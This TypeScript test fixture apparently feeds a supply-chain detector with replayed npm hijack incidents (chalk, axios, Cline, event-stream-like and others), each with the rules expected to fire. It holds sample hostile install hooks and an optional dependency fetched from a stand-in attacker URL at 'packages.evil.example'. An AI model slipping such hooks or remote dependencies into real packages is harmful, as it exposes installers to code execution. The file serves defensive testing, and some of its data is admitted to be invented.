import type { Incident } from '../replay.ts';

/**
 * Releases of packages in use that others than their people published. What the accounts do not tell is assumed as it tells
 * least: the usual account, nothing attested, no script. Versions and ages of what is around them are made up.
 */

const used = (versions: string) => ({ since: '2015-03-01', versions });

const chalk: Incident = {
  id: 'chalk-debug',
  title: 'chalk and debug: a maintainer was phished, 18 packages for two hours',
  at: '2025-09-08T13:16:00Z',
  after: '1h',
  expected: 'hold',
  rules: ['recent-release'],
  npm: [
    {
      name: 'chalk',
      people: ['maintainer-a', 'maintainer-b'],
      earlier: used('1.0.0 2.0.0 3.0.0 4.0.0 5.0.0 5.1.0 5.2.0 5.3.0 5.4.0'),
      releases: [
        { version: '5.6.0', when: '-21d' },
        { version: '5.6.1', when: '0' },
      ],
    },
    {
      name: 'debug',
      people: ['maintainer-a', 'maintainer-c'],
      earlier: used('2.0.0 3.0.0 4.0.0 4.1.0 4.2.0 4.3.0 4.4.0'),
      usual: { dependencies: { ms: '^2.1.3' } },
      releases: [
        { version: '4.4.1', when: '-110d' },
        { version: '4.4.2', when: '0' },
      ],
    },
    { name: 'ms', earlier: used('1.0.0 2.0.0 2.1.0'), releases: [{ version: '2.1.3', when: '-1700d' }] },
  ],
  change: {
    as: 'package-lock',
    before: { chalk: '5.6.0', debug: '4.4.1' },
    after: { chalk: '5.6.1', debug: '4.4.2' },
    with: { before: { ms: '2.1.3' }, after: { ms: '2.1.3' } },
  },
};

/** Where nothing more is told than that a release was not that of its people. */
function hijacked(
  [id, title, name]: readonly [id: string, title: string, name: string],
  at: string,
  after: string,
  [before, bad]: readonly [before: string, bad: string],
): Incident {
  return {
    id,
    title,
    at,
    after,
    expected: 'hold',
    rules: ['recent-release'],
    npm: [
      {
        name,
        people: ['maintainer-a', 'maintainer-b'],
        earlier: used('0.1.0 0.2.0 0.3.0 0.4.0 0.5.0'),
        releases: [
          { version: before, when: '-16d' },
          { version: bad, when: '0' },
        ],
      },
    ],
    change: { as: 'package-lock', before: { [name]: before }, after: { [name]: bad } },
  };
}

const cline: Incident = {
  id: 'cline',
  title: 'Cline: a stolen token, a postinstall script, eight hours',
  at: '2026-02-17T11:00:00Z',
  after: '4h',
  expected: 'fail',
  rules: ['new-install-script', 'recent-release'],
  npm: [
    {
      name: 'cline',
      people: ['maintainer-a', 'maintainer-b'],
      earlier: { since: '2025-09-01', versions: '1.0.0 1.0.4 2.0.0 2.1.0 2.2.0' },
      releases: [
        { version: '2.2.3', when: '-6d' },
        { version: '2.3.0', when: '0', scripts: { postinstall: 'npm install -g some-agent@latest' } },
      ],
    },
  ],
  change: { as: 'package-lock', before: { cline: '2.2.3' }, after: { cline: '2.3.0' } },
};

const plainCrypto = {
  name: 'plain-crypto-js',
  people: ['account-x'],
  repository: false,
  releases: [{ version: '4.2.1', when: '-18h', scripts: { postinstall: 'node setup.js' } }],
} as const;

/** A release by hand where a build had published before, that brings in a package which was put there hours earlier. */
const axios = (line: '1' | '0', before: string, bad: string): Incident => ({
  id: `axios-${line}`,
  title: `axios ${bad}: published outside its workflow, with a dependency that was staged 18 hours before`,
  at: '2026-03-31T00:21:00Z',
  after: '2h',
  expected: 'fail',
  rules: ['new-young-dependency', 'lost-provenance', 'recent-release', 'young-package'],
  npm: [
    {
      name: 'axios',
      people: ['maintainer-a', 'maintainer-b'],
      earlier: used('0.20.0 0.21.0 0.22.0 0.27.0 0.28.0'),
      usual: { by: { build: 'oidc:axios' }, attested: true, dependencies: { 'form-data': '^4.0.0' } },
      releases: [
        { version: '0.30.3', when: '-90d' },
        { version: '1.14.0', when: '-25d' },
        {
          version: bad,
          when: '0',
          by: 'maintainer-a',
          attested: false,
          dependencies: { 'form-data': '^4.0.0', 'plain-crypto-js': '^4.2.1' },
        },
      ],
    },
    { name: 'form-data', earlier: used('1.0.0 2.0.0 3.0.0'), releases: [{ version: '4.0.5', when: '-250d' }] },
    plainCrypto,
  ],
  change: {
    as: 'package-lock',
    before: { axios: before },
    after: { axios: bad },
    with: {
      before: { 'form-data': '4.0.5' },
      after: { 'form-data': '4.0.5', 'plain-crypto-js': '4.2.1' },
    },
  },
});

/** A helpful stranger is given a package, and adds a dependency of his own; others find it weeks later. */
const eventStream: Incident = {
  id: 'event-stream-like',
  title: 'as event-stream: a stranger takes a package over and adds a dependency of days; audited ten days later',
  at: '2026-05-04T09:00:00Z',
  after: '10d',
  expected: 'fail',
  rules: ['new-publisher', 'new-young-dependency', 'young-package'],
  npm: [
    {
      name: 'acme-stream-tools',
      people: ['maintainer-a'],
      earlier: used('1.0.0 2.0.0 3.0.0 3.1.0 3.2.0 3.3.0'),
      usual: { dependencies: { through: '~2.3.8' } },
      releases: [
        { version: '3.3.4', when: '-700d' },
        {
          version: '3.3.6',
          when: '0',
          by: 'account-x',
          maintainers: ['maintainer-a', 'account-x'],
          dependencies: { through: '~2.3.8', 'acme-flat-stream': '^0.1.0' },
        },
      ],
    },
    { name: 'through', earlier: used('2.0.0 2.1.0'), releases: [{ version: '2.3.8', when: '-3000d' }] },
    { name: 'acme-flat-stream', people: ['account-y'], releases: [{ version: '0.1.0', when: '-4d' }] },
  ],
  change: {
    as: 'package-lock',
    before: { 'acme-stream-tools': '3.3.4' },
    after: { 'acme-stream-tools': '3.3.6' },
    with: { before: { through: '2.3.8' }, after: { through: '2.3.8', 'acme-flat-stream': '0.1.0' } },
  },
};

/** What clients take is the optional one of the two: the harmless line stays for reviewers to see. */
const overridden: Incident = {
  id: 'overridden-dependency',
  title: 'a hijacked account names a dependency a second time, as an optional one from an address',
  at: '2026-04-20T10:00:00Z',
  after: '3h',
  expected: 'fail',
  rules: ['new-young-dependency', 'recent-release'],
  npm: [
    {
      name: 'acme-clock',
      earlier: used('1.0.0 1.1.0 1.2.0 1.3.0'),
      usual: { dependencies: { ms: '^2.1.3' } },
      releases: [
        { version: '1.4.0', when: '-60d' },
        { version: '1.4.1', when: '0', optionalDependencies: { ms: 'http:packages.evil.example/ms.tgz' } },
      ],
    },
    { name: 'ms', earlier: used('1.0.0 2.0.0 2.1.0'), releases: [{ version: '2.1.3', when: '-1700d' }] },
  ],
  change: {
    as: 'package-lock',
    before: { 'acme-clock': '1.4.0' },
    after: { 'acme-clock': '1.4.1' },
    with: { before: { ms: '2.1.3' }, after: { ms: '2.1.3' } },
  },
};

/** One account, three release lines at once, each with a script that fetches a program. */
const uaParser: Incident = {
  id: 'ua-parser-like',
  title: 'as ua-parser-js: a hijacked account publishes three lines at once, with a preinstall script',
  at: '2026-04-12T12:15:00Z',
  after: '3h',
  expected: 'fail',
  rules: ['new-install-script', 'recent-release'],
  npm: [
    {
      name: 'acme-agent-parser',
      earlier: used('0.6.0 0.7.0 0.7.20 0.7.28'),
      releases: [
        { version: '0.8.0', when: '-500d' },
        { version: '1.0.0', when: '-40d' },
        { version: '0.7.29', when: '0', scripts: { preinstall: 'start /B node preinstall.js' } },
        { version: '0.8.1', when: '+1m', scripts: { preinstall: 'start /B node preinstall.js' } },
        { version: '1.0.1', when: '+2m', scripts: { preinstall: 'start /B node preinstall.js' } },
      ],
    },
  ],
  change: { as: 'package-lock', before: { 'acme-agent-parser': '1.0.0' }, after: { 'acme-agent-parser': '1.0.1' } },
};

export const hijacks: readonly Incident[] = [
  chalk,
  hijacked(
    ['bitwarden-cli', '@bitwarden/cli: after the breach of an action, for an hour and a half', '@bitwarden/cli'],
    '2026-04-22T21:30:00Z',
    '1h',
    ['2026.3.0', '2026.4.0'],
  ),
  hijacked(['nx', 'Nx: four hours', 'nx'], '2025-08-26T22:30:00Z', '2h', ['21.4.0', '21.5.0']),
  hijacked(['rspack', 'rspack: one hour', '@rspack/core'], '2024-12-19T02:00:00Z', '30m', ['1.1.6', '1.1.7']),
  hijacked(['web3-js', 'web3.js of Solana: five hours', '@solana/web3.js'], '2024-12-02T15:20:00Z', '3h', [
    '1.95.5',
    '1.95.6',
  ]),
  cline,
  axios('1', '1.14.0', '1.14.1'),
  axios('0', '0.30.3', '0.30.4'),
  eventStream,
  overridden,
  uaParser,
];
